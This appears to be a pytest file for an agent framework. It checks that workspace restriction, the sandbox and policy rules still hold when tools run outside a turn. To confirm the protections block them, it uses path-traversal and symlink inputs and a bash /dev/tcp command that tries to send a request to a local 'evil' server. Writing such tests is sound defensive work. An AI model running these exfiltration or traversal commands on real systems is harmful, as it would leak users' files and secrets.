"""`agent.tools.execute` outside of any turn: the agent's workspace, restriction, sandbox and policy still apply."""

from __future__ import annotations

import contextlib
from collections.abc import AsyncIterator, Callable
from pathlib import Path
from typing import Any

import pytest

from everloop import AgentLoop, MessageBus, Tool, ToolRegistry, tool
from everloop.config import Config, Rule
from everloop.testing import ScriptedProvider, call
from everloop.tools.base import Plan
from everloop.tools.files.files import file_tools
from tests.support.web_servers import Server

from .scene import Scene


@pytest.fixture
def agent(scene: Scene, monkeypatch: pytest.MonkeyPatch) -> Callable[..., Any]:
    elsewhere = scene.root / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "near.txt").write_text(scene.secret)
    monkeypatch.chdir(elsewhere)

    @contextlib.asynccontextmanager
    async def made(*rules: Rule, steps: Any = (), **options: Any) -> AsyncIterator[AgentLoop]:
        settings = {"restrict_to_workspace": True, "store": scene.root / "store.db", **options}
        config = Config(policy=rules)
        async with AgentLoop(
            MessageBus(), ScriptedProvider(list(steps)), scene.workspace, config=config, **settings
        ) as agent:
            yield agent

    return made


async def test_paths_are_relative_to_the_workspace(agent: Any, scene: Scene) -> None:
    async with agent() as loop:
        await loop.tools.execute("write_file", {"path": "kept.txt", "content": "kept"})
        assert "kept" in await loop.tools.execute("read_file", {"path": "kept.txt"})
        assert scene.secret not in await loop.tools.execute("read_file", {"path": "near.txt"})
        await loop.tools.execute("exec", {"command": "pwd > where"})
    assert (scene.workspace / "kept.txt").read_text() == "kept"
    assert (scene.workspace / "where").read_text() == f"{scene.workspace}\n"
    assert not Path("kept.txt").exists()


@pytest.mark.parametrize("path", ["{outside}/secret.txt", "../outside/secret.txt", "link"])
async def test_a_restricted_workspace_is_not_left(agent: Any, scene: Scene, path: str) -> None:
    (scene.workspace / "link").symlink_to(scene.outside / "secret.txt")
    async with agent() as loop:
        given = path.format(outside=scene.outside)
        told = await loop.tools.execute("read_file", {"path": given})
        assert scene.secret not in told
        await loop.tools.execute("write_file", {"path": given, "content": "gone"})
        await loop.tools.execute("edit_file", {"path": given, "old_text": scene.secret, "new_text": "gone"})
    assert (scene.outside / "secret.txt").read_text() == scene.secret


async def test_the_runtimes_own_files_are_out_of_reach(agent: Any, scene: Scene) -> None:
    async with agent(store=scene.workspace / "store.db") as loop:
        assert "SQLite" not in await loop.tools.execute("read_file", {"path": "store.db"})


async def test_commands_run_in_the_sandbox(agent: Any, scene: Scene, evil: Server) -> None:
    send = f"exec 3<>/dev/tcp/127.0.0.1/{evil.port}; echo GET /gone >&3"
    async with agent() as loop:
        assert scene.secret not in await loop.tools.execute("exec", {"command": f"cat {scene.outside}/secret.txt"})
        await loop.tools.execute("exec", {"command": f"echo gone > {scene.outside}/gone"})
        await loop.tools.execute("exec", {"command": f"bash -c '{send}'"})
        told = await loop.tools.execute("exec", {"command": f"bash -c '{send}'", "network": True})
    assert not (scene.outside / "gone").exists()
    assert evil.requests == []
    assert "network access needs approval" in told  # the reason is given


async def test_rules_hold_and_asking_means_no(agent: Any, scene: Scene) -> None:
    (scene.workspace / "secret.txt").write_text(scene.secret)
    (scene.workspace / "link.txt").symlink_to("secret.txt")
    rules = (
        Rule(do="deny", path="secret.txt", why="not this one"),
        Rule(do="ask", tool="write_file", why="writing is dear"),
        Rule(do="deny", command="touch"),
    )
    async with agent(*rules) as loop:
        assert "not this one" in await loop.tools.execute("read_file", {"path": "secret.txt"})
        assert scene.secret not in await loop.tools.execute("read_file", {"path": "link.txt"})
        told = await loop.tools.execute("write_file", {"path": "gone", "content": "gone"})
        await loop.tools.execute("exec", {"command": "touch gone"})
    assert not (scene.workspace / "gone").exists()
    assert "writing is dear" in told
    assert "there is no one to ask" in told


class Planless(Tool):
    name = "planless"
    description = "acts without a plan"

    def __init__(self, place: Path) -> None:
        self.place = place

    def plan(self, arguments: dict[str, Any]) -> Plan:
        raise ValueError("no plan")

    async def execute(self) -> str:
        self.place.write_text("gone")
        return "done"


async def test_a_call_without_a_plan_does_not_run(agent: Any, scene: Scene) -> None:
    async with agent() as loop:
        loop.tools.register(Planless(scene.outside / "gone"))
        assert "no plan" in await loop.tools.execute("planless")
    assert not (scene.outside / "gone").exists()


async def test_a_tool_cannot_bypass_the_policy_by_calling_another(agent: Any, scene: Scene) -> None:
    """Approving a call does not approve the calls that it makes."""
    rules = Rule(do="ask", tool="outer"), Rule(do="deny", command="touch")
    async with agent(*rules, steps=[call("outer"), "done"]) as loop:

        @tool
        async def outer() -> str:
            """Call other tools."""
            told = await loop.tools.execute("read_file", {"path": str(scene.outside / "secret.txt")})
            await loop.tools.execute("exec", {"command": "touch gone"})
            await loop.tools.execute("write_file", {"path": "kept", "content": "kept"})
            return told

        loop.tools.register(outer)
        await loop.process_direct("go", attended=True)
        await loop.process_direct("/approve", attended=True)
        sent = str(loop.provider.requests[-1].messages)
    assert scene.secret not in sent
    assert not (scene.workspace / "gone").exists()
    assert (scene.workspace / "kept").read_text() == "kept"


async def test_an_unrestricted_agent_reads_what_its_user_may(agent: Any, scene: Scene) -> None:
    async with agent(restrict_to_workspace=False) as loop:
        assert scene.secret in await loop.tools.execute("read_file", {"path": str(scene.outside / "secret.txt")})


async def test_a_registry_without_an_agent_works_in_the_current_folder(agent: Any, scene: Scene) -> None:
    registry = ToolRegistry(file_tools())
    assert scene.secret in await registry.execute("read_file", {"path": "near.txt"})
